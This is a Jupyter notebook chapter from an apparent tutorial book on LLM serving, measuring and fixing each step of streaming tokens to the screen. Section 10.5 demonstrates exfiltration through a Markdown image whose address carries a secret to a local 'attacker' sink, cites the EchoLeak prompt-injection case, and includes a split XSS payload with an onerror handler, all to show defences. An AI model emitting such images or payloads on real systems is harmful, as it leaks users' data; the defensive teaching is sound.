# ---
# jupyter:
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # 10 · Streaming to the screen
#
# ![Layer 10 of 12: streaming](images/layer_10.svg)
#
# The answer exists on the server long before you can read it. This chapter measures
# every step between the two, breaks each of them, and repairs it.
#
# *35 minutes · needs the weights (98 MB, fetched once); no GPU, no key. At the end
# you can say where the milliseconds before the first word went, cut a stream anywhere
# without losing a character, and draw an answer without drawing it again.*

# %% tags=["plumbing"]
# If labkit is missing: this book has no public address yet to install it from, so run
# `make lab` in a copy of the project and open the chapter there.
from labkit.book import start

lab = start(chapter=10)

# %% [markdown]
# **Scene.** You asked how many r's are in "strawberry" 🍓. The request passed the
# gateway, was rendered with its system message, cut into tokens and prefilled. Now
# one token id at a time falls out of the sampler. Ids are not text, text is not an
# event, and an event is not a pixel: this is the way back up. Below is the recorded
# life of that request. The lit part is this chapter's layer; the arrow keys choose
# another.

# %%
from labkit.book import claim
from labkit.records import Layer
from labkit.widgets import SSEInspector, StreamView, TraceBar, TTFTWaterfall

recorded = lab.replay_trace("request")
TraceBar(recorded, lit=Layer.STREAMING)

# %% [markdown]
# ## 10.1 Where do the milliseconds before the first word go?
#
# *Time to first token* (TTFT) is what a person feels as "it is thinking". Before you
# measure: our prompt has 34 tokens and nobody else is asking. Which part is the
# largest?

# %%
guess_part = lab.predict(
    "The largest part of the wait for a short prompt on an idle server",
    options=["connect", "tokenize", "queue", "prefill", "flush"],
)
guess_part

# %% [markdown]
# Now ask for real; our own request's answer is too short to watch, so ask for a
# story. The kernel opens an SSE stream to the server beside it, and each dot is an
# event at the moment it arrived. Raise **Max tokens**, press **Start** (Tab reaches
# it, Enter presses it), then **Stop** half-way: the server is told, and the request's
# blocks are free before its next step.

# %% tags=["measurement"]
tale = [{"role": "user", "content": "Tell me a long story about a lighthouse."}]
view = StreamView(lab.server, tale, max_tokens=40, temperature=0.0)
view.run()

# %% [markdown]
# The server stamps its own steps and the client stamps arrivals; `lab.trace` brings
# both onto one clock. Three requests: the short prompt, a long one, and the short one
# again while three long ones are ahead of it.

# %% tags=["measurement"]
foxes = "The quick brown fox jumps over the lazy dog. " * 60
long_prompt = [{"role": "user", "content": foxes + "How many foxes?"}]
knobs = {"max_tokens": 4, "temperature": 0.0}
short, long = (lab.trace(m, **knobs) for m in (lab.request, long_prompt))
ahead = [lab.server.stream(long_prompt, **knobs) for _ in range(3)]
behind = lab.trace(lab.request, **knobs)
for stream in ahead:
    stream.cancel()
for trace, label in ((short, "short"), (long, "long"), (behind, "behind three")):
    trace.meta["label"] = label
waterfall = TTFTWaterfall([short, long, behind])
waterfall

# %% tags=["measurement"]
parts = [{row.name: row.ms for row in w.rows} for w in waterfall.waterfalls]
mostly = max(guess_part.options, key=lambda name: parts[0].get(name, 0.0))
guess_part.reveal(mostly, "Measured on this machine, just now.")

# %% [markdown]
# **Why.** TTFT is a sum of seconds, and you have just read each term:
#
# $$\mathrm{TTFT}=t_{connect}+t_{parse}+t_{render}+t_{tokenize}+t_{queue}+t_{prefill}
# +t_{sample}+t_{detokenize}+t_{flush}+t_{network}$$
#
# Prefill grows with your prompt and the queue with other people's prompts. The rest
# is small here because client and server share a machine. Only two terms are "the
# model".

# %%
totals = [w.total_ms for w in waterfall.waterfalls]
sums = [sum(part.values()) for part in parts]
gaps = [abs(total - found) for total, found in zip(totals, sums, strict=True)]
claim("the parts add up to the whole, rounding apart", max(gaps) < 0.05)
claim(
    "a long prompt waits longer for its prefill",
    parts[1]["prefill"] > parts[0]["prefill"],
)
claim("behind others, the queue grows", parts[2]["queue"] > parts[0]["queue"])

# %% [markdown]
# **In production.** NVIDIA's guide counts queueing, prefill and the network into TTFT
# and skips empty first events ([NIM benchmarking
# 2.0.0](https://docs.nvidia.com/nim/benchmarking/llm/2.0.0/metrics.html)).
# OpenTelemetry names two clocks: `gen_ai.client.operation.time_to_first_chunk` runs
# from the client's send, `gen_ai.server.time_to_first_token` runs on the server
# ([conventions](https://github.com/open-telemetry/semantic-conventions-genai),
# status: development, read November 2026). Ask which one your dashboard shows.

# %% [markdown]
# ## 10.2 What comes first: a chunk, a token or a character?
#
# Three stamps follow one click. The *first chunk* is the first event on the wire,
# which in OpenAI's dialect brings a role and no text. The *first token* is the first
# id out of the sampler. The *first character* is what you see. This Korean sentence
# has 85 tokens, and many end in the middle of a character. How many pieces of text
# come out?

# %%
korean = "모든 인간은 태어날 때부터 자유로우며 그 존엄과 권리에 있어 동등하다."
guess_pieces = lab.predict("Pieces of text from 85 tokens", between=(1, 85))
guess_pieces

# %%
from labkit.text.detokenizer import StreamDetokenizer

ids = lab.tokenizer.encode(korean)
detokenizer = StreamDetokenizer(lab.tokenizer.token_bytes)
pieces = [detokenizer.feed(token_id) for token_id in ids]
visible = [piece for piece in pieces if piece]
guess_pieces.reveal(len(visible))

# %% [markdown]
# Each token decoded alone would print `�` almost every time. The detokenizer keeps
# the bytes of an unfinished character and gives them up when it is whole, or at the
# end.

# %% tags=["nbval-check-output"]
alone = [lab.tokenizer.token_bytes(i).decode("utf-8", "replace") for i in ids]
claim("the sentence has 85 tokens", len(ids) == 85)
claim(
    "decoded alone, 84 of them show a replacement character",
    sum("�" in a for a in alone) == 84,
)
claim("46 tokens release no text", len(ids) - len(visible) == 46)
claim(
    "the pieces join to the sentence", "".join(pieces) + detokenizer.flush() == korean
)

# %%
lab.source(StreamDetokenizer)

# %% [markdown]
# A stop string widens the gap in every language. The greedy answer to our request
# begins `The answer is "1"`. Ask to stop at `The answer is 2`, and for a while every
# token could still turn into that. Which token brings the first visible text?

# %% tags=["nbval-check-output"]
plain = lab.trace(lab.request, **knobs)
held = lab.trace(lab.request, max_tokens=8, temperature=0.0, stop="The answer is 2")
first_texts = [t.marks_named("first_text")[0].key.token for t in (plain, held)]
names = ["plain", "with a stop string"]
lab.table(["request", "token that brings text"], zip(names, first_texts, strict=True))

# %% tags=["nbval-check-output"]
stamps = [
    held.marks_named(f"first_{what}")[0].time_s for what in ("chunk", "token", "text")
]
claim("without a stop string, token 0 is visible at once", first_texts[0] == 0)
claim("with one, tokens are held until the stop is ruled out", first_texts[1] > 0)
claim("so the first text comes after the first token", stamps[2] > stamps[1])

# %% [markdown]
# **In production.** vLLM holds back as many characters as the longest stop string
# has, less one, whatever the text is; a maintainer calls the empty first chunks that
# users reported intended
# ([vllm#11089](https://github.com/vllm-project/vllm/issues/11089), 2025). Our server
# holds only what could still begin a stop string. Section 10.6 puts a number on the
# difference.

# %% [markdown]
# ## 10.3 What survives when the line goes dead?
#
# One recorded answer, which opens with four stars 🌟, in two dialects. OpenAI's sends
# deltas and, if you ask, one usage chunk at the end. Anthropic's sends typed events
# with usage at the start and again, cumulative, at the end. Switch faults on and
# compare the two parsers: ours, and one that trusts each piece to be whole events.

# %%
import json

from labkit.net.relay import cut_points, recut, relay

story = lab.replay_streams("story")
recordings = {name: story.frames(name) for name in ("openai", "anthropic")}
raw = [  # the same frames, with characters as UTF-8 and not as \uXXXX
    b"data: " + json.dumps(json.loads(f[6:]), ensure_ascii=False).encode() + b"\n\n"
    for f in recordings["openai"][:-1]
]
SSEInspector({**recordings, "openai, raw UTF-8": raw}, relay)

# %% [markdown]
# The network may cut a stream between any two bytes. Take the first twelve frames
# with raw UTF-8 and cut them in two at each possible place. At how many places will
# our parser give other events than for the whole?

# %%
guess_cuts = lab.predict("Places where a cut changes the events", between=(0, 1000))
guess_cuts

# %%
from labkit.text.sse import SSEParser


def events_of(pieces):
    parser = SSEParser()
    return [event for piece in pieces for event in parser.feed(piece)]


whole = b"".join(raw[:12])
want = events_of([whole])
bad = [i for i in range(1, len(whole)) if events_of(recut(whole, [i])) != want]
guess_cuts.reveal(len(bad), f"All {len(whole) - 1:,} places were tried.")


# %%
def naive(pieces):
    frames = [
        f for p in pieces for f in p.decode("utf-8", "replace").split("\n\n") if f
    ]
    return [frame.removeprefix("data: ") for frame in frames]


lost = [i for i in range(1, len(whole)) if naive(recut(whole, [i])) != naive([whole])]
lab.md(
    f"The naive parser goes wrong at **{len(lost):,} of {len(whole) - 1:,}** places."
)

# %% [markdown]
# Now the line dies for good. At each of 200 places, what does the client know about
# the bill?

# %%
from labkit.dialects.readers import reader
from labkit.dialects.wire import ChunkReader


def usage_after(dialect, num_bytes):
    received = b"".join(recordings[dialect])[:num_bytes]
    chunks = ChunkReader(reader(dialect)).feed(received)
    return next((c.usage for c in reversed(chunks) if c.usage), None)


# %%
def known(dialect):
    places = cut_points(len(b"".join(recordings[dialect])), 200, seed=0)
    return sum(usage_after(dialect, n) is not None for n in places) / len(places)


# %% tags=["nbval-check-output"]
shares = {dialect: known(dialect) for dialect in recordings}
lab.table(
    ["dialect", "cuts that leave some usage known"],
    [(d, f"{s:.0%}") for d, s in shares.items()],
)

# %% tags=["nbval-check-output"]
claim("no cut in two changes our parser's events", not bad)
claim("most cuts break the parser that trusts its pieces", len(lost) > len(whole) / 2)
claim(
    "typed events keep a usage more often than deltas",
    shares["anthropic"] > shares["openai"],
)

# %% [markdown]
# **In production.** OpenAI's reference says of the usage chunk that an interrupted
# stream may not bring it (`stream_options.include_usage`, in the `openai` package).
# Anthropic's says that the counts in `message_delta` are cumulative, so a client that
# adds them up counts twice; PostHog fixed that in October 2026 ([release
# 7.75.4](https://github.com/PostHog/posthog-python/releases/tag/posthog-v7.75.4)).
# The official client ends quietly when `[DONE]` never came: check for it yourself.

# %% [markdown]
# ## 10.4 How often is the same paragraph drawn?
#
# An answer in Markdown grows piece by piece, and a page that renders *the whole text*
# for each piece parses the first paragraph again and again. Run the race: three
# renderers get the same text, in your browser. Watch the cost and the nodes that are
# thrown away. (A selection in a node that is rewritten is gone: try to select a
# word.)

# %%
from pathlib import Path

from labkit.widgets import MarkdownRace

essay = Path("data/10_answer.md").read_text(encoding="utf-8")
race = MarkdownRace(essay, chunk_chars=24)
race

# %% [markdown]
# The page's milliseconds are yours alone, so the claim counts something that is the
# same everywhere: characters parsed. For each character that a renderer parses when
# it keeps finished blocks, how many does the full renderer parse?

# %%
guess_work = lab.predict("Full re-parse costs how many times as much", between=(1, 100))
guess_work

# %% tags=["nbval-check-output"]
from labkit.text.markdown import MarkdownStream, Strategy, render

steps = [essay[i : i + 24] for i in range(0, len(essay), 24)]
streams = {s: MarkdownStream(s) for s in Strategy}
for stream in streams.values():
    for step in steps:
        stream.feed(step)
    stream.flush()
rows = [
    (s, m.work.num_chars_parsed, m.work.num_blocks_written) for s, m in streams.items()
]
lab.table(["strategy", "characters parsed", "blocks written"], rows)

# %%
full, memo = (streams[s].work for s in (Strategy.FULL, Strategy.MEMO))
guess_work.reveal(round(full.num_chars_parsed / memo.num_chars_parsed, 1))

# %% tags=["nbval-check-output"]
n, size = len(steps), len(essay)
quadratic = sum(min(24 * k, size) for k in range(1, n + 1))
claim("the full renderer parses n(n+1)/2 pieces", full.num_chars_parsed == quadratic)
claim(
    "keeping blocks parses less than a seventh of it",
    memo.num_chars_parsed * 7 < quadratic,
)
claim(
    "and all three end with the same page",
    {m.html for m in streams.values()} == {render(essay)},
)

# %% [markdown]
# **Why not always keep blocks?** Because Markdown looks ahead. A link may be used
# before it is defined, and `**` or a table row change their meaning when they close.
# Keeping finished blocks and rendering all once at the end is right and cheap. **In
# production**, Chrome's guide says: append instead of setting `innerHTML`, parse as a
# stream, and sanitise what has accumulated
# ([2025-01-21](https://developer.chrome.com/docs/ai/render-llm-responses)).

# %% [markdown]
# ## 10.5 When is a piece of an answer safe to show?
#
# A model's text is untrusted: whoever wrote a page that it read may have written the
# answer. Two rules sound alike. *Check each piece before you show it.* *Check the
# whole text each time it grows.* Below, an image whose address carries a secret
# arrives in two pieces. How many of the two does a check of each piece find?

# %%
guess_found = lab.predict(
    "Pieces in which a check finds an image", options=["0", "1", "2"]
)
guess_found

# %%
from labkit.net.sink import Sink
from labkit.text.links import LinkPolicy

sink = Sink()  # the attacker's server; ends with this kernel
trusting = LinkPolicy(image_hosts=None)
pieces = ["Here you are: ![logo](" + sink.url, "/pixel.gif?secret=4711) Done."]
found = ["<img" in render(piece, trusting) for piece in pieces]
guess_found.reveal(str(sum(found)), "Neither piece is an image yet; together they are.")

# %% [markdown]
# Show the whole text as a trusting page would. Nothing is clicked; painting is
# enough. (The committed notebook keeps no output here: this cell is for your own
# browser.)

# %% tags=["live"]
from IPython.display import HTML

HTML(render("".join(pieces), trusting))

# %% tags=["live"]
hits = len(sink.hits)
lab.md(f"The sink was asked **{hits} times** so far. Run this cell again after a look.")

# %% tags=["nbval-check-output"]
leak, kept = (render("".join(pieces), p) for p in (trusting, LinkPolicy()))
claim("no piece alone has the image", not any(found))
claim(
    "the trusting page loads the secret's address",
    "secret=4711" in leak and "<img" in leak,
)
claim("with an allow-list of hosts nothing is fetched", "<img" not in kept)
claim("and the reader is told what was left out", "lab-image-blocked" in kept)

# %% [markdown]
# **Why.** This is how EchoLeak (CVE-2025-32711, Microsoft 365 Copilot, 2025) carried
# data out: an injected instruction, an image address, and a page that paints. A piece
# is not a document, so only the accumulated text can be judged. Cleaning HTML piece
# by piece fails the other way round: the attack stays out, and so does honest markup.

# %% tags=["nbval-check-output"]
from labkit.text.sanitise import sanitise_html

honest = ["A <b>bold", " claim</b>."]
attack = ["<img src=x onerr", "or=alert(1)>"]
rows = [
    (name, "".join(map(sanitise_html, parts)), sanitise_html("".join(parts)))
    for name, parts in (("honest", honest), ("attack", attack))
]
lab.table(["text", "cleaned piece by piece", "cleaned whole"], rows)

# %% tags=["nbval-check-output"]
claim("cleaned whole, the bold words stay bold", rows[0][2] == "A <b>bold claim</b>.")
claim("cleaned in pieces, half of them do not", rows[0][1] != rows[0][2])
claim("cleaned whole, no handler is left", "onerror" not in rows[1][2])

# %% [markdown]
# ## 10.6 What does a stop string cost the reader?
#
# A stop string must not be shown, not even its beginning. So text that could still
# become one is held. Two policies: hold a fixed number of characters, the longest
# stop less one; or hold only an end that begins a stop string. Over a text that never
# stops, how many characters does the second hold on average?

# %%
guess_held = lab.predict(
    "Characters held on average, stop = '\\nUser:'", between=(0, 5)
)
guess_held

# %%
from labkit.text.detokenizer import StopMatcher

stop = "\nUser:"
matcher, waiting = StopMatcher([stop]), []
for character in essay:
    matcher.feed(character)
    waiting.append(len(matcher.held))
fixed = len(stop) - 1
guess_held.reveal(
    round(sum(waiting) / len(waiting), 3), f"The fixed policy holds {fixed}."
)

# %% tags=["nbval-check-output"]
token_pieces = ["Sure.", "\nUs", "er", ": hi"]
leaked = "".join(p for p in token_pieces if stop not in p)
safe = StopMatcher([stop])
shown = "".join(safe.feed(p) for p in token_pieces)
claim("a match within one piece misses the stop and shows all of it", stop in leaked)
claim("looking back over pieces shows nothing of it", shown == "Sure.")
claim(
    "held on average: less than a tenth of the fixed policy",
    sum(waiting) < 0.1 * fixed * len(waiting),
)

# %% [markdown]
# ## 10.7 Is a smooth stream a fast one?
#
# Your eye reads gaps, not averages. Take the recorded stream and treat it three ways:
# as it came; with eight events coalesced, as a proxy might; and paced, one piece
# every mean gap, started late enough that no piece is missing when its turn comes.
# Which has the smallest gap at the 99th percentile?

# %%
guess_smooth = lab.predict(
    "Smallest p99 gap", options=["as it came", "coalesced by 8", "paced"]
)
guess_smooth

# %%
from itertools import pairwise

from labkit.figures.pace import percentile

came = [c.time_s * 1000 for c in story.chunks() if c.text]  # ms
n = len(came)
joined = [came[min(i | 7, n - 1)] for i in range(n)]  # each waits for its eighth
gap = (came[-1] - came[0]) / (n - 1)
lag = max(t - came[0] - gap * i for i, t in enumerate(came))  # so that none is missing
paced = [came[0] + lag + gap * i for i in range(n)]


# %% tags=["nbval-check-output"]
def gaps_of(times):
    return [b - a for a, b in pairwise(times)]


ways = {"as it came": came, "coalesced by 8": joined, "paced": paced}
p99 = {name: percentile(gaps_of(times), 99) for name, times in ways.items()}
rows = [
    (name, f"{times[0]:.1f}", f"{times[-1]:.1f}", f"{p99[name]:.1f}")
    for name, times in ways.items()
]
lab.table(["stream", "first text, ms", "last text, ms", "p99 gap, ms"], rows)

# %%
guess_smooth.reveal(min(p99, key=p99.__getitem__))

# %% tags=["nbval-check-output"]
late = paced[-1] - came[-1]
claim("coalescing does not make the end later", joined[-1] == came[-1])
claim(
    "but its worst gap is the largest",
    max(p99, key=p99.__getitem__) == "coalesced by 8",
)
claim(
    "pacing has the smallest, and pays for it with delay",
    min(p99, key=p99.__getitem__) == "paced" and late >= 0,
)

# %% [markdown]
# **In production.** Vercel's AI SDK ships pacing as `smoothStream`: whole words, 10
# ms apart unless you say otherwise
# ([reference](https://v6.ai-sdk.dev/docs/reference/ai-sdk-core/smooth-stream), read
# November 2026). It needs a word boundary, so the reference asks you to bring your
# own rule for Japanese or Chinese. Formulas: with *N* tokens and the mean time per
# output token TPOT, $\mathrm{E2E}=\mathrm{TTFT}+\mathrm{TPOT}\,(N-1)$; a reader sees
# $\mathrm{TTFT}+t_{flush}+t_{held}$.

# %% [markdown]
# ## What you may have heard
#
# | you may have heard | what settles it |
# |---|---|
# | "The typing effect is fake." | 10.1: the server stamps each token. |
# | "TTFT is the model's latency." | 10.1: same prompt, same model, plus a queue. |
# | "Clean each chunk and you are safe." | 10.5: only the whole has the image. |
# | "Usage always arrives." | 10.3: cut the stream before its last chunk. |

# %% tags=["nbval-check-output"]
tokens = plain.marks_named("token")
claim(
    "tokens are born one after another",
    all(a.time_s < b.time_s for a, b in pairwise(tokens)),
)

# %% [markdown]
# ## Exercises
#
# **1.** TTFT is 800 ms, TPOT is 20 ms, the answer has 101 tokens. When does the last
# one arrive, in seconds? Put your number, or a function of (ttft_s, tokens, tpot_s),
# in place of `...` and run the cell.

# %% tags=["exercise", "nbval-check-output"]
lab.check("10.1", ...)

# %% [markdown]
# <details><summary>Hint</summary>
#
# The first token comes after TTFT. How many are left, and what does each add?
# </details>
# <details><summary>Solution</summary>
#
# 0.8 + 100 · 0.02, in the next cell.
# </details>

# %% tags=["solution", "nbval-check-output"]
lab.check("10.1", lambda ttft_s, tokens, tpot_s: ttft_s + tpot_s * (tokens - 1))

# %% [markdown]
# **2.** Write `events(tokens)`: how many events carry text, given the bytes of each
# token? For the Korean sentence it must give what you saw in 10.2.

# %% tags=["exercise", "nbval-check-output"]
lab.check("10.2", ...)

# %% [markdown]
# <details><summary>Hint</summary>
#
# `codecs.getincrementaldecoder("utf-8")` keeps an unfinished character for you.
# </details>
# <details><summary>Solution</summary>
#
# Feed each token and count the texts that are not empty, in the next cell.
# </details>

# %% tags=["solution", "nbval-check-output"]
import codecs


def events(tokens):
    decoder = codecs.getincrementaldecoder("utf-8")("replace")
    return sum(decoder.decode(token) != "" for token in tokens)


claim(
    "your function agrees with 10.2",
    events(map(lab.tokenizer.token_bytes, ids)) == len(visible),
)
lab.check("10.2", events)

# %% [markdown]
# **3.** A renderer parses everything again at each of *n* equal chunks. What does it
# pay, in chunk-parses, for *n* = 200? And for any *n*?

# %% tags=["exercise", "nbval-check-output"]
lab.check("10.3", ...)

# %% [markdown]
# <details><summary>Hint</summary>
#
# Chunk *k* makes it parse *k* chunks. Add up 1 + 2 + … + *n*.
# </details>
# <details><summary>Solution</summary>
#
# *n*(*n* + 1)/2, in the next cell.
# </details>

# %% tags=["solution", "nbval-check-output"]
lab.check("10.3", lambda n: n * (n + 1) // 2)

# %% [markdown]
# ## Where you are
#
# The request has come back up: ids became characters, characters became events,
# events became something to read. Here is its life once more, with this layer's
# share.

# %%
from labkit.figures.timeline import life

own = life(recorded).cells[Layer.STREAMING.chapter - 1]
answer = lab.replay_streams("streams")
num_bytes = len(b"".join(answer.frames("openai")))
lab.md(
    f"This layer took **{own.ms:.2f} ms** of {recorded.end_s * 1000:.0f} ms, made "
    f"**{num_bytes:,} bytes** of events out of {len(answer.text().encode())} bytes of "
    "text, and costs nothing on the bill: tokens are charged, frames are not."
)

# %%
TraceBar(recorded, lit=Layer.STREAMING)

# %% [markdown]
# **What production systems do differently.** They put a proxy or two in between and
# turn buffering off there; they render on the page with frameworks that batch updates
# by frame; they keep a stream resumable by an id, which ours is not; and they watch
# percentiles over millions of streams where you watched one. **Next door**: in
# chapter 11 the answer is not text for you but a call to a tool.

# %% [markdown]
# ## Sources
#
# - WHATWG, *Server-sent events*, html.spec.whatwg.org/multipage/server-sent-events.html
# - CommonMark 0.31.2, spec.commonmark.org/0.31.2
# - Chrome, *Best practices to render streamed LLM responses*, 2025-01-21
# - NVIDIA, *NIM LLMs benchmarking* 2.0.0, metrics
# - OpenTelemetry, *Semantic conventions for generative AI*, read 2026-11
# - vLLM issue 11089; PostHog Python release 7.75.4; Vercel AI SDK, `smoothStream`
# - The outline follows *End-to-End LLM Stack Trace: From Keystroke to Streamed Token*
#   (2026, CC0)
